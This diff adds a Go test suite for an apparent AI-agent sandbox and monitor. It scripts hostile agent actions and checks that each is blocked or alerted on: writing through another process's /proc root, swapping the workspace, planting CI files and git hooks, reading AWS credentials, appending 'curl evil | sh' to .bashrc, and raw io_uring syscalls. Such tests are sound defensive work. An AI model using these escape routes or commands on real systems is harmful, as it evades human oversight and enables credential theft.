@@ -1,0 +1,210 @@
+package hostile
+
+import (
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/agentwatch/agentwatch/privtest"
+	"github.com/agentwatch/agentwatch/telemetry"
+)
+
+// attack is one row of the suite.
+type attack struct {
+	name string
+	// script is the agent's bash script; it reports steps with try().
+	// {{WS}}, {{ROOT}}, {{OUTSIDE}} are replaced before it runs.
+	script string
+	setup  func(t *testing.T, w *ws)
+	// check asserts the outcome for the child and the record, per mode.
+	check func(t *testing.T, w *ws, mode string, r run)
+}
+
+func TestHostileAgent(t *testing.T) {
+	privtest.Require(t)
+	u := agentUser(t)
+	// A process of the agent's user outside any run: its /proc/PID/root
+	// and cwd lead to the real files, around every read-only bind.
+	outside := exec.Command("sleep", "600")
+	uid, _ := strconv.Atoi(u.Uid)
+	gid, _ := strconv.Atoi(u.Gid)
+	outside.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uint32(uid), Gid: uint32(gid)}}
+	if err := outside.Start(); err != nil {
+		t.Fatal(err)
+	}
+	defer func() { outside.Process.Kill(); outside.Wait() }()
+
+	attacks := []attack{
+		{
+			name: "write through /proc/PID/root of a process outside the run",
+			script: try("listed", "test -e /proc/{{OUTSIDE}}") +
+				try("root", "echo pwned >> /proc/{{OUTSIDE}}/root{{WS}}/.github/workflows/ci.yml") +
+				try("cwd", "echo pwned >> /proc/{{OUTSIDE}}/cwd/etc-not-there") +
+				"ls /proc | grep -c '^[0-9]' | sed 's/^/procs /'\n",
+			check: func(t *testing.T, w *ws, mode string, r run) {
+				for _, s := range []string{"listed", "root", "cwd"} {
+					if r.step(s) != "fail" {
+						t.Errorf("%s: %s, want fail (the run's /proc shows no outside process)", s, r.step(s))
+					}
+				}
+				if n, _ := strconv.Atoi(r.step("procs")); n == 0 || n > 10 {
+					t.Errorf("the run's /proc lists %q processes; want only the run's few", r.step("procs"))
+				}
+				if got := w.read(".github/workflows/ci.yml"); got != "on: push\n" {
+					t.Errorf("workflow changed: %q", got)
+				}
+			},
+		},
+		{
+			name: "rename the workspace away and recreate it from a copy",
+			script: "cd {{ROOT}}\n" +
+				try("swap", "mv repo repo.old && mkdir repo && cp -a repo.old/. repo/") +
+				try("edit", "echo pwned >> {{WS}}/.github/workflows/ci.yml") +
+				try("dir", "mv {{WS}}/.github {{WS}}/.github.old && mkdir -p {{WS}}/.github/workflows && echo pwned > {{WS}}/.github/workflows/ci.yml"),
+			check: func(t *testing.T, w *ws, mode string, r run) {
+				if mode == "enforce" {
+					for _, s := range []string{"swap", "edit", "dir"} {
+						if r.step(s) != "fail" {
+							t.Errorf("%s: %s, want fail", s, r.step(s))
+						}
+					}
+					if got := w.read(".github/workflows/ci.yml"); got != "on: push\n" {
+						t.Errorf("workflow changed: %q", got)
+					}
+					if !r.hasAlert(telemetry.AlertWorkflowEdit, "", "refused") {
+						t.Errorf("no refused workflow_edit alert: %v", r.alerts())
+					}
+					return
+				}
+				if r.step("swap") != "ok" || r.step("edit") != "ok" {
+					t.Errorf("observe: swap %s, edit %s; want ok", r.step("swap"), r.step("edit"))
+				}
+				if !r.hasAlert(telemetry.AlertWorkflowEdit, "", "ci.yml") {
+					t.Errorf("observe: no workflow_edit alert for the edit: %v", r.alerts())
+				}
+			},
+		},
+		{
+			name: "create protected paths that did not exist",
+			script: try("gitlab", "echo 'x: {script: [curl evil]}' > .gitlab-ci.yml") +
+				try("rename", "echo 'x: 1' > /tmp/aw-planted-$$ && mv -T /tmp/aw-planted-$$ .gitlab-ci.yml") +
+				try("policy", "printf 'version: 1\\nmode: observe\\n' > .agentwatch.yaml") +
+				try("hook", "echo 'curl evil' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit"),
+			check: func(t *testing.T, w *ws, mode string, r run) {
+				for _, s := range []string{"gitlab", "rename", "policy", "hook"} {
+					want := "fail"
+					if mode == "observe" {
+						want = "ok"
+					}
+					if r.step(s) != want {
+						t.Errorf("%s: %s, want %s", s, r.step(s), want)
+					}
+				}
+				for _, rel := range []string{".gitlab-ci.yml", ".agentwatch.yaml", ".git/hooks/pre-commit"} {
+					_, err := os.Lstat(w.path(rel))
+					if exists := err == nil; exists != (mode == "observe") {
+						t.Errorf("%s exists=%v after the run (placeholders must be gone; observe writes through)", rel, exists)
+					}
+				}
+				if mode == "observe" && !r.hasAlert(telemetry.AlertWorkflowEdit, "", ".gitlab-ci.yml") {
+					t.Errorf("no workflow_edit alert for .gitlab-ci.yml: %v", r.alerts())
+				}
+			},
+		},
+		{
+			name: "home outside /home: read credentials, plant a shell start-up file",
+			setup: func(t *testing.T, w *ws) {
+				home := w.u.HomeDir
+				creds := filepath.Join(home, ".aws", "credentials")
+				os.MkdirAll(filepath.Dir(creds), 0o700)
+				os.WriteFile(creds, []byte("[default]\naws_secret_access_key=x\n"), 0o600)
+				os.Chown(filepath.Dir(creds), uidOf(w), gidOf(w))
+				os.Chown(creds, uidOf(w), gidOf(w))
+				rc := filepath.Join(home, ".bashrc")
+				old, err := os.ReadFile(rc)
+				if err != nil {
+					os.WriteFile(rc, nil, 0o644)
+					os.Chown(rc, uidOf(w), gidOf(w))
+				}
+				t.Cleanup(func() { os.WriteFile(rc, old, 0o644) })
+			},
+			script: try("read", "cat ~/.aws/credentials") +
+				try("rc", "echo 'curl evil | sh' >> ~/.bashrc"),
+			check: func(t *testing.T, w *ws, mode string, r run) {
+				if !strings.HasPrefix(w.u.HomeDir, "/srv/") {
+					t.Fatalf("home %s: the case needs a home outside /home", w.u.HomeDir)
+				}
+				if !r.hasAlert(telemetry.AlertSecretAccess, "high", "credentials") {
+					t.Errorf("no secret_access alert for ~/.aws/credentials: %v", r.alerts())
+				}
+				want := "fail"
+				if mode == "observe" {
+					want = "ok"
+				}
+				if r.step("rc") != want {
+					t.Errorf("rc: %s, want %s", r.step("rc"), want)
+				}
+				if len(r.alerts()) == 0 || !r.hasAlertAny(".bashrc") {
+					t.Errorf("no alert names ~/.bashrc: %v", r.alerts())
+				}
+			},
+		},
+		{
+			name: "io_uring",
+			script: `/usr/bin/python3 -c '
+import ctypes, os
+libc = ctypes.CDLL(None, use_errno=True)
+params = ctypes.create_string_buffer(120)
+fd = libc.syscall(425, 4, params)
+print("uring", "ok" if fd >= 0 else "errno%d" % ctypes.get_errno())
+'`,
+			check: func(t *testing.T, w *ws, mode string, r run) {
+				want := "ok"
+				if mode == "enforce" {
+					want = "errno" + strconv.Itoa(int(syscall.ENOSYS))
+				}
+				if r.step("uring") != want {
+					t.Errorf("io_uring_setup: %s, want %s", r.step("uring"), want)
+				}
+			},
+		},
+	}
+
+	for _, a := range attacks {
+		for _, mode := range []string{"enforce", "observe"} {
+			t.Run(mode+"/"+a.name, func(t *testing.T) {
+				w := newWorkspace(t, u)
+				if a.setup != nil {
+					a.setup(t, w)
+				}
+				script := strings.NewReplacer("{{WS}}", w.dir, "{{ROOT}}", w.root,
+					"{{OUTSIDE}}", strconv.Itoa(outside.Process.Pid)).Replace(a.script)
+				start := time.Now()
+				r := agentwatchRun(t, w, mode, script)
+				t.Logf("%s in %v", mode, time.Since(start).Round(time.Millisecond))
+				a.check(t, w, mode, r)
+				if t.Failed() {
+					t.Logf("stdout:\n%s\nstderr:\n%s", r.stdout, r.stderr)
+				}
+			})
+		}
+	}
+}
+
+func uidOf(w *ws) int { n, _ := strconv.Atoi(w.u.Uid); return n }
+func gidOf(w *ws) int { n, _ := strconv.Atoi(w.u.Gid); return n }
+
+// hasAlertAny reports whether any alert's message mentions text.
+func (r run) hasAlertAny(text string) bool {
+	for _, a := range r.alerts() {
+		if strings.Contains(a.message, text) {
+			return true
+		}
+	}
+	return false
+}
